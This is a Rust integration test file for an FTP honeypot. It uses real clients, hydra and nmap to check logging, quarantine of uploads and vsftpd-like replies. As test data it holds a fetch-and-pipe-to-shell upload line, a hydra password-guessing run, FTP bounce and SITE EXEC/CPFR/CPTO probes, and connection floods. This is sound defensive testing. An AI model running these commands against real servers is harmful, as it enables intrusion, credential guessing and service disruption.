//! The FTP honeypot driven by real clients through the real binary: curl,
//! lftp, Python's ftplib, hydra and nmap -sV, over plain FTP and explicit
//! TLS, plus hostile input. Every login attempt and command must land in
//! the JSONL with the client's address, uploads must land in the
//! quarantine under their sha256, and replies must be vsftpd's texts.

mod common;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::{Sensor, of_kind, read_events};
use serde_json::Value;

const ACCEPT: &str =
    "[services.ftp]\naccept = [{ user = \"admin\", password = \"s3cret!\" }]\nfail_delay_ms = 0\n";

fn ftp_sensor(config: &str) -> Sensor {
    Sensor::start("ftp", config, tempfile::tempdir().unwrap())
}

fn sha256_hex(data: &[u8]) -> String {
    let out = Command::new("sha256sum")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            c.stdin.take().unwrap().write_all(data)?;
            c.wait_with_output()
        })
        .unwrap();
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .next()
        .unwrap()
        .to_owned()
}

/// Run curl with `args`; returns (success, stdout, stderr).
fn curl(args: &[&str]) -> (bool, String, String) {
    let out = Command::new(mirage_testkit::require_tool("curl"))
        .args(["-s", "-S", "--max-time", "20"])
        .args(args)
        .output()
        .unwrap();
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// The upload `data` is in the quarantine under its hash, and a `payload`
/// event of the sensor's events names it.
fn assert_quarantined(s: &Sensor, events: &[Value], data: &[u8]) {
    let sha = sha256_hex(data);
    let kept = std::fs::read(s.event_dir().join("quarantine").join(&sha))
        .unwrap_or_else(|e| panic!("quarantine/{sha}: {e}"));
    assert_eq!(kept, data);
    let payload = of_kind(events, "payload")
        .into_iter()
        .find(|e| e["sha256"] == sha.as_str())
        .unwrap_or_else(|| panic!("no payload event for {sha}"));
    assert_eq!(payload["stored"], format!("quarantine/{sha}"));
    assert_eq!(payload["len"], data.len());
    assert_eq!(payload["service"], "ftp");
    assert_eq!(payload["src_ip"], "127.0.0.1");
}

/// curl: anonymous list and download, an upload with -T as a listed user,
/// then the uploaded file is in the quarantine.
#[test]
fn curl_lists_downloads_and_uploads() {
    let mut s = ftp_sensor(ACCEPT);
    let base = format!("ftp://127.0.0.1:{}", s.port());
    let (ok, out, err) = curl(&[&format!("{base}/")]);
    assert!(ok, "{err}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 2, "{out}");
    assert!(lines[0].starts_with("drwxr-xr-x    2 0        0            4096 "));
    assert!(
        lines[0].ends_with(" pub") && lines[1].ends_with(" upload"),
        "{out}"
    );
    let (ok, out, err) = curl(&[&format!("{base}/pub/README")]);
    assert!(ok, "{err}");
    assert_eq!(
        out,
        "Mirror of internal builds. Contact ops@example.com for access.\n"
    );
    let dir = tempfile::tempdir().unwrap();
    let data = b"#!/bin/sh\nwget http://203.0.113.7/x.sh -O- | sh\n";
    let file = dir.path().join("drop.sh");
    std::fs::write(&file, data).unwrap();
    let (ok, _, err) = curl(&[
        "-T",
        file.to_str().unwrap(),
        &format!("ftp://admin:s3cret!@127.0.0.1:{}/upload/", s.port()),
    ]);
    assert!(ok, "{err}");
    // The wrong password: curl reports the server's refusal.
    let (ok, _, err) = curl(&[&format!("ftp://admin:nope@127.0.0.1:{}/", s.port())]);
    assert!(!ok);
    assert!(
        err.contains("530") || err.contains("Access denied"),
        "{err}"
    );
    s.stop();
    let events = read_events(&s.event_dir());
    assert_quarantined(&s, &events, data);
    let stor = of_kind(&events, "command")
        .into_iter()
        .find(|e| e["command"] == "stor")
        .expect("STOR recorded");
    // curl changes into the directory first, then stores the bare name.
    assert_eq!(stor["args"][0], "drop.sh");
    let admin: Vec<&Value> = of_kind(&events, "auth.attempt")
        .into_iter()
        .filter(|e| e["username"] == "admin")
        .collect();
    let results: Vec<(&str, &str)> = admin
        .iter()
        .map(|e| {
            (
                e["password"].as_str().unwrap(),
                e["result"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(results, [("s3cret!", "success"), ("nope", "failure")]);
    assert_eq!(
        of_kind(&events, "session.connect").len(),
        of_kind(&events, "session.close").len()
    );
}

/// lftp (in its default mode, which would upgrade to TLS if FEAT offered
/// it) and Python's ftplib: log in, list, download and upload, passive and
/// (enabled) active mode; lftp's upload shows up in the same session's
/// listing, and its credential is recorded.
#[test]
fn lftp_and_ftplib_log_in_list_download_upload() {
    let mut s = ftp_sensor(&format!("{ACCEPT}active_mode = true\n"));
    let port = s.port();
    let dir = tempfile::tempdir().unwrap();
    let up = b"lftp upload \x00\x01\x02 payload\n";
    std::fs::write(dir.path().join("up.bin"), up).unwrap();
    let out = Command::new(mirage_testkit::require_tool("lftp"))
        .current_dir(dir.path())
        .args(["-u", "admin,s3cret!", "-p", &port.to_string()])
        .args([
            "-e",
            "set net:max-retries 1; set net:timeout 10; cd pub; get README -o got.txt; cd /upload; put up.bin; ls; bye",
            "127.0.0.1",
        ])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        stdout.contains("-rw-r--r--    1 1000     1000           24 ")
            && stdout.contains(" up.bin"),
        "{stdout}"
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("got.txt")).unwrap(),
        "Mirror of internal builds. Contact ops@example.com for access.\n"
    );

    let script = format!(
        r#"
import ftplib, io
f = ftplib.FTP()
assert f.connect("127.0.0.1", {port}, timeout=10) == "220 (vsFTPd 3.0.3)"
try:
    f.login("root", "toor")
    raise SystemExit("wrong password accepted")
except ftplib.error_perm as e:
    assert str(e) == "530 Login incorrect.", e
f = ftplib.FTP()
f.connect("127.0.0.1", {port}, timeout=10)
assert f.login("anonymous", "guest@example.com") == "230 Login successful."
assert f.sendcmd("SYST") == "215 UNIX Type: L8"
assert f.pwd() == "/"
f.cwd("pub")
assert f.nlst() == ["README", "release-notes.txt"], f.nlst()
got = io.BytesIO()
f.retrbinary("RETR release-notes.txt", got.write)
assert got.getvalue() == b"2.4.1: fixed login timeout\n2.4.0: new backup schedule\n"
assert f.size("README") == 63
f.cwd("/upload")
f.storbinary("STOR pyup.bin", io.BytesIO(b"ftplib upload over PASV"))
f.set_pasv(False)
f.storbinary("STOR active.bin", io.BytesIO(b"ftplib upload over PORT"))
assert sorted(f.nlst()) == ["active.bin", "pyup.bin"], f.nlst()
back = io.BytesIO()
f.retrbinary("RETR pyup.bin", back.write)
assert back.getvalue() == b"ftplib upload over PASV"
assert f.sendcmd("MKD x") == '257 "/upload/x" created'
assert f.sendcmd("RNFR pyup.bin") == "350 Ready for RNTO."
assert f.sendcmd("RNTO x/y.bin") == "250 Rename successful."
assert f.delete("active.bin") == "250 Delete operation successful."
try:
    f.sendcmd("XYZZY")
except ftplib.error_perm as e:
    assert str(e) == "500 Unknown command.", e
assert f.quit() == "221 Goodbye."
"#
    );
    let out = Command::new(mirage_testkit::require_tool("python3"))
        .args(["-c", &script])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    s.stop();
    let events = read_events(&s.event_dir());
    assert_quarantined(&s, &events, up);
    assert_quarantined(&s, &events, b"ftplib upload over PASV");
    assert_quarantined(&s, &events, b"ftplib upload over PORT");
    // lftp's login, the only one as admin.
    assert!(
        of_kind(&events, "auth.attempt")
            .iter()
            .any(|e| e["username"] == "admin"
                && e["password"] == "s3cret!"
                && e["result"] == "success"),
        "lftp's credential was not recorded"
    );
    let anon = of_kind(&events, "auth.attempt")
        .into_iter()
        .find(|e| e["username"] == "anonymous")
        .unwrap();
    assert_eq!(anon["password"], "guest@example.com");
    assert_eq!(anon["result"], "success");
    assert_eq!(anon["details"]["anonymous"], true);
    let cmds: Vec<&str> = of_kind(&events, "command")
        .iter()
        .filter(|e| e["session"] == anon["session"])
        .map(|e| e["raw"].as_str().unwrap())
        .collect();
    for want in [
        "RNFR pyup.bin",
        "RNTO x/y.bin",
        "DELE active.bin",
        "MKD x",
        "XYZZY",
    ] {
        assert!(cmds.contains(&want), "{want} not in {cmds:?}");
    }
}

/// Raw session: read one reply (all its lines), return them joined by \n.
fn read_reply(r: &mut BufReader<TcpStream>) -> String {
    let mut out = String::new();
    let mut first_code = None;
    loop {
        let mut line = String::new();
        if r.read_line(&mut line).unwrap_or(0) == 0 {
            return out;
        }
        let line = line.trim_end_matches(['\r', '\n']).to_owned();
        let code = line.get(..3).map(str::to_owned);
        if first_code.is_none() {
            first_code = code.clone();
        }
        out.push_str(&line);
        let done = code == first_code && line.as_bytes().get(3) == Some(&b' ');
        if done {
            return out;
        }
        out.push('\n');
    }
}

struct Raw {
    r: BufReader<TcpStream>,
    w: TcpStream,
}

impl Raw {
    fn connect(addr: SocketAddr) -> (Raw, String) {
        let c = TcpStream::connect(addr).unwrap();
        c.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        let mut raw = Raw {
            w: c.try_clone().unwrap(),
            r: BufReader::new(c),
        };
        let greeting = read_reply(&mut raw.r);
        (raw, greeting)
    }

    fn cmd(&mut self, line: &str) -> String {
        self.w.write_all(format!("{line}\r\n").as_bytes()).unwrap();
        read_reply(&mut self.r)
    }

    fn closed(&mut self) -> bool {
        let mut b = [0u8; 1];
        matches!(self.r.read(&mut b), Ok(0))
    }
}

/// The replies a scanner sees, byte for byte as vsftpd 3.0.3 writes them,
/// and the connection closed after max_login_fails wrong passwords.
#[test]
fn wrong_credentials_get_vsftpd_replies_and_a_close() {
    let s = ftp_sensor("[services.ftp]\nfail_delay_ms = 0\n");
    let (mut c, greeting) = Raw::connect(s.addr);
    assert_eq!(greeting, "220 (vsFTPd 3.0.3)");
    assert_eq!(c.cmd("SYST"), "530 Please login with USER and PASS.");
    assert_eq!(c.cmd("PASS x"), "503 Login with USER first.");
    for i in 0..3 {
        assert_eq!(c.cmd("USER root"), "331 Please specify the password.");
        assert_eq!(c.cmd(&format!("PASS wrong{i}")), "530 Login incorrect.");
    }
    assert!(c.closed(), "still open after 3 failures");
    let (mut c, _) = Raw::connect(s.addr);
    assert_eq!(c.cmd("USER ftp"), "331 Please specify the password.");
    assert_eq!(c.cmd("PASS x"), "230 Login successful.");
    assert_eq!(c.cmd("PWD"), "257 \"/\" is the current directory");
    assert_eq!(c.cmd("CWD /nothere"), "550 Failed to change directory.");
    assert_eq!(c.cmd("TYPE I"), "200 Switching to Binary mode.");
    assert_eq!(c.cmd("LIST"), "425 Use PORT or PASV first.");
    assert_eq!(c.cmd("RETR nothere"), "550 Failed to open file.");
    assert_eq!(c.cmd("MDTM pub/README").len(), "213 20261021091400".len());
    assert_eq!(c.cmd("QUIT"), "221 Goodbye.");
    // ProFTPD flavour: its own greeting and texts.
    let p = ftp_sensor(
        "[services.ftp]\nflavor = \"proftpd\"\nversion = \"1.3.5\"\nfail_delay_ms = 0\n",
    );
    let (mut c, greeting) = Raw::connect(p.addr);
    assert_eq!(greeting, "220 ProFTPD 1.3.5 Server (ftp01) [127.0.0.1]");
    assert_eq!(c.cmd("USER bob"), "331 Password required for bob");
    assert_eq!(c.cmd("PASS x"), "530 Login incorrect.");
}

/// hydra with 20 passwords: every attempt is an auth.attempt with the
/// right user, password and source address, and none succeeds.
#[test]
fn hydra_every_attempt_is_recorded() {
    let hydra = mirage_testkit::require_tool("hydra");
    let mut s = ftp_sensor(ACCEPT);
    let dir = tempfile::tempdir().unwrap();
    let words = [
        "123456", "password", "root", "toor", "qwerty", "ftp", "admin123", "letmein", "111111",
        "abc123", "changeme", "welcome", "master", "dragon", "monkey", "passw0rd", "shadow",
        "sunshine", "trustno1", "iloveyou",
    ];
    std::fs::write(dir.path().join("list"), words.join("\n") + "\n").unwrap();
    let out = Command::new(hydra)
        .current_dir(dir.path())
        .args(["-I", "-t", "4", "-l", "root", "-P", "list"])
        .arg(format!("ftp://127.0.0.1:{}", s.port()))
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("0 valid password"), "{text}");
    s.stop();
    let events = read_events(&s.event_dir());
    let root: Vec<&Value> = of_kind(&events, "auth.attempt")
        .into_iter()
        .filter(|e| e["username"] == "root")
        .collect();
    let mut tried: Vec<&str> = root
        .iter()
        .map(|e| e["password"].as_str().unwrap())
        .collect();
    tried.sort();
    let mut want = words.to_vec();
    want.sort();
    assert_eq!(tried, want);
    assert!(root.iter().all(|e| e["result"] == "failure"
        && e["src_ip"] == "127.0.0.1"
        && e["method"] == "password"
        && e["service"] == "ftp"));
}

/// nmap's version detection names vsftpd and the configured version (on
/// port 21 in a private namespace, as a real scan would find it).
#[test]
fn nmap_identifies_vsftpd_with_configured_version() {
    for version in ["3.0.3", "2.3.4"] {
        let config = format!("[services.ftp]\nversion = \"{version}\"\n");
        let line = common::nmap_standard_port("ftp", 21, &config);
        assert!(line.contains("open") && line.contains("ftp"), "{line}");
        assert!(line.contains(&format!("vsftpd {version}")), "{line}");
    }
}

/// Explicit TLS: curl --ssl-reqd and lftp with ftp:ssl-force list and
/// download over AUTH TLS, data channel included (PROT P); the
/// certificate is made once and kept under the data dir.
#[test]
fn ftps_auth_tls_with_curl_and_lftp() {
    let mut s = ftp_sensor(&format!("{ACCEPT}tls = true\n"));
    let port = s.port();
    let (ok, out, err) = curl(&["--ssl-reqd", "-k", &format!("ftp://127.0.0.1:{port}/pub/")]);
    assert!(ok, "{err}");
    assert!(
        out.contains(" README\r\n") || out.contains(" README\n"),
        "{out}"
    );
    let (ok, out, err) = curl(&[
        "--ssl-reqd",
        "-k",
        &format!("ftp://admin:s3cret!@127.0.0.1:{port}/pub/README"),
    ]);
    assert!(ok, "{err}");
    assert!(out.starts_with("Mirror of internal builds."), "{out}");
    let dir = tempfile::tempdir().unwrap();
    let out = Command::new(mirage_testkit::require_tool("lftp"))
        .current_dir(dir.path())
        .args(["-u", "anonymous,x", "-p", &port.to_string()])
        .args([
            "-e",
            "set net:max-retries 1; set net:timeout 10; set ftp:ssl-force true; set ftp:ssl-protect-data true; set ssl:verify-certificate no; cls -1 pub; get pub/release-notes.txt -o notes.txt; bye",
            "127.0.0.1",
        ])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout.contains("README"), "{stdout}");
    assert!(
        std::fs::read_to_string(dir.path().join("notes.txt"))
            .unwrap()
            .starts_with("2.4.1")
    );
    let cert = s.event_dir().join("tls/ftp.crt");
    let first = std::fs::read(&cert).unwrap();
    s.stop();
    let events = read_events(&s.event_dir());
    // Logins over TLS are recorded as such, with the password.
    let tls_logins: Vec<&Value> = of_kind(&events, "auth.attempt")
        .into_iter()
        .filter(|e| e["details"]["tls"] == true)
        .collect();
    assert!(tls_logins.len() >= 3, "{tls_logins:#?}");
    assert!(tls_logins.iter().any(|e| e["password"] == "s3cret!"));
    let prots = of_kind(&events, "command")
        .into_iter()
        .filter(|e| e["raw"] == "PROT P")
        .count();
    assert!(prots >= 3, "PROT P {prots} times");
    // AUTH is one command event per upgrade, recorded before the handshake.
    let auths = of_kind(&events, "command")
        .into_iter()
        .filter(|e| e["command"] == "auth")
        .count();
    assert_eq!(auths, tls_logins.len());
    // The kept certificate is reused, not replaced, on the next start.
    mirage_net::tls::self_signed_server_config(&s.event_dir().join("tls"), "ftp", "ftp01").unwrap();
    assert_eq!(std::fs::read(&cert).unwrap(), first);
}

/// A listener on `ip` that would see a connection if the honeypot ever
/// made one (checked with [`assert_never_reached`]), and its port.
fn trap(ip: &str) -> (std::net::TcpListener, u16) {
    let t = std::net::TcpListener::bind((ip, 0)).unwrap();
    t.set_nonblocking(true).unwrap();
    let port = t.local_addr().unwrap().port();
    (t, port)
}

/// Quit, give a connection a moment to arrive, and check none did.
fn assert_never_reached(c: &mut Raw, trap: &std::net::TcpListener) {
    assert_eq!(c.cmd("QUIT"), "221 Goodbye.");
    std::thread::sleep(Duration::from_millis(200));
    assert!(trap.accept().is_err(), "the honeypot connected out");
}

/// A control connection logged in as the ACCEPT user.
fn admin(addr: SocketAddr) -> Raw {
    let (mut c, _) = Raw::connect(addr);
    c.cmd("USER admin");
    assert_eq!(c.cmd("PASS s3cret!"), "230 Login successful.");
    c
}

/// The `ftp.bounce` attacks among `events`, in order.
fn bounces(events: &[Value]) -> Vec<&Value> {
    of_kind(events, "attack")
        .into_iter()
        .filter(|e| e["technique"] == "ftp.bounce")
        .collect()
}

/// Active mode off (the default), as vsftpd `port_enable=NO`: PORT and
/// EPRT, even to the client's own address, get `550 Permission denied.`,
/// FEAT does not offer EPRT, and nothing is ever connected to; a bounce is
/// still recorded.
#[test]
fn active_mode_is_off_by_default_and_never_connects() {
    // The client's own address, listening: an honest PORT target.
    let (own, op) = trap("127.0.0.1");
    let mut s = ftp_sensor(ACCEPT);
    let mut c = admin(s.addr);
    let feat = c.cmd("FEAT");
    assert!(!feat.contains("EPRT") && feat.contains("EPSV"), "{feat}");
    let arg = format!("127,0,0,1,{},{}", op >> 8, op & 0xff);
    assert_eq!(c.cmd(&format!("PORT {arg}")), "550 Permission denied.");
    assert_eq!(c.cmd("LIST"), "425 Use PORT or PASV first.");
    assert_eq!(
        c.cmd(&format!("EPRT |1|127.0.0.1|{op}|")),
        "550 Permission denied."
    );
    assert_eq!(c.cmd("PORT 198,51,100,7,0,25"), "550 Permission denied.");
    assert_never_reached(&mut c, &own);
    s.stop();
    let events = read_events(&s.event_dir());
    let bounces = bounces(&events);
    assert_eq!(bounces.len(), 1, "{bounces:#?}");
    assert_eq!(bounces[0]["evidence"]["target_ip"], "198.51.100.7");
}

/// FTP bounce with active mode on: PORT/EPRT to a third-party address is
/// refused with vsftpd's text and recorded as an attack, never connected;
/// so is a privileged port on the client's own address (refused, not an
/// attack). SITE EXEC, CPFR and CPTO are recorded as attacks.
#[test]
fn bounce_and_site_exec_are_refused_and_recorded() {
    // Something listening on a third-party-looking address would see a
    // connection if the honeypot ever made one: 127.0.0.2 is not the client.
    let (third, tp) = trap("127.0.0.2");
    let mut s = ftp_sensor(&format!("{ACCEPT}active_mode = true\n"));
    let mut c = admin(s.addr);
    assert!(c.cmd("FEAT").contains("EPRT"));
    let port_arg = format!("127,0,0,2,{},{}", tp >> 8, tp & 0xff);
    assert_eq!(
        c.cmd(&format!("PORT {port_arg}")),
        "500 Illegal PORT command."
    );
    assert_eq!(c.cmd("LIST"), "425 Use PORT or PASV first.");
    assert_eq!(
        c.cmd(&format!("EPRT |1|127.0.0.2|{tp}|")),
        "500 Illegal EPRT command."
    );
    assert_eq!(c.cmd("PORT 198,51,100,7,0,25"), "500 Illegal PORT command.");
    assert_eq!(c.cmd("PORT 127,0,0,1,0,22"), "500 Illegal PORT command.");
    assert_eq!(c.cmd("EPRT |9|x|1|"), "500 Bad EPRT protocol.");
    assert_eq!(c.cmd("SITE EXEC id"), "500 Unknown SITE command.");
    assert_eq!(c.cmd("SITE CPFR /etc/passwd"), "500 Unknown SITE command.");
    assert_eq!(
        c.cmd("SITE CPTO /var/www/html/p.php"),
        "500 Unknown SITE command."
    );
    assert_eq!(
        c.cmd("SITE CHMOD 777 pub/README"),
        "200 SITE CHMOD command ok."
    );
    assert_never_reached(&mut c, &third);
    s.stop();
    let events = read_events(&s.event_dir());
    let attacks = of_kind(&events, "attack");
    let bounces = bounces(&events);
    assert_eq!(bounces.len(), 3, "{bounces:#?}");
    assert_eq!(bounces[0]["evidence"]["target_ip"], "127.0.0.2");
    assert_eq!(bounces[0]["evidence"]["target_port"], tp);
    assert_eq!(bounces[0]["evidence"]["command"], "PORT");
    assert_eq!(bounces[1]["evidence"]["command"], "EPRT");
    assert_eq!(bounces[2]["evidence"]["target_ip"], "198.51.100.7");
    assert!(bounces.iter().all(|e| e["src_ip"] == "127.0.0.1"));
    let site: Vec<&str> = attacks
        .iter()
        .filter(|e| e["technique"] == "ftp.site_exec")
        .map(|e| e["evidence"]["site_command"].as_str().unwrap())
        .collect();
    assert_eq!(site, ["EXEC", "CPFR", "CPTO"]);
}

/// Log in anonymously and run NOOP, within `limit`.
fn login_within(addr: SocketAddr, limit: Duration) {
    let start = Instant::now();
    let (mut c, greeting) = Raw::connect(addr);
    assert_eq!(greeting, "220 (vsFTPd 3.0.3)");
    c.cmd("USER anonymous");
    assert_eq!(c.cmd("PASS x@y"), "230 Login successful.");
    assert_eq!(c.cmd("NOOP"), "200 NOOP ok.");
    assert!(start.elapsed() < limit, "login took {:?}", start.elapsed());
}

/// Bad input: an oversized command line, binary garbage, a TLS hello
/// without AUTH, and 2,000 half-open connections leave the sensor
/// answering (an extra login works at once), within its memory cap, with
/// nothing logged above INFO and every session closed in the events.
#[test]
fn hostile_input_and_half_open_flood() {
    const RSS_CAP_MIB: u64 = 128;
    mirage_net::raise_fd_limit().unwrap();
    let s = ftp_sensor("[limits]\nmax_connections_per_ip = 6000\n");
    let addr = s.addr;
    // A 1 MiB command line: one 500, then the next command works.
    let (mut c, _) = Raw::connect(addr);
    let mut long = vec![b'A'; 1 << 20];
    long.extend_from_slice(b"\r\n");
    c.w.write_all(&long).unwrap();
    assert_eq!(read_reply(&mut c.r), "530 Please login with USER and PASS.");
    assert_eq!(c.cmd("USER ftp"), "331 Please specify the password.");
    assert_eq!(c.cmd("PASS x"), "230 Login successful.");
    // An endless line with no newline at all: the sensor holds 4 KiB of it.
    let (mut c2, _) = Raw::connect(addr);
    c2.w.write_all(&vec![b'B'; 4 << 20]).unwrap();
    // Binary garbage and a TLS ClientHello where a command should be.
    let (mut g, _) = Raw::connect(addr);
    g.w.write_all(b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03\xff\xfe\r\n")
        .unwrap();
    assert_eq!(read_reply(&mut g.r), "530 Please login with USER and PASS.");
    let mut junk = Vec::new();
    for i in 0..4096u32 {
        junk.push((i.wrapping_mul(2654435761) >> 13) as u8);
    }
    g.w.write_all(&junk).unwrap();
    g.w.write_all(b"\r\nQUIT\r\n").unwrap();
    // 2,000 half-open sessions: greeting sent, nothing ever answered.
    let idle = common::idle_connections(addr, 2000);
    std::thread::sleep(Duration::from_millis(500));
    login_within(addr, Duration::from_secs(2));
    assert_eq!(c.cmd("NOOP"), "200 NOOP ok.");
    s.assert_peak_rss_under(RSS_CAP_MIB, "2000 half-open + hostile");
    drop(idle);
    drop(c2);
    let mut s = s;
    let events = s.stop_after_hostile_input();
    let errors = of_kind(&events, "protocol.error");
    assert!(
        errors
            .iter()
            .any(|e| e["error"].as_str().unwrap().contains("longer than 4096")),
        "{errors:#?}"
    );
    assert!(errors.iter().any(|e| e["error"] == "not an FTP command"));
    assert!(errors.iter().all(|e| e["src_ip"] == "127.0.0.1"));
}
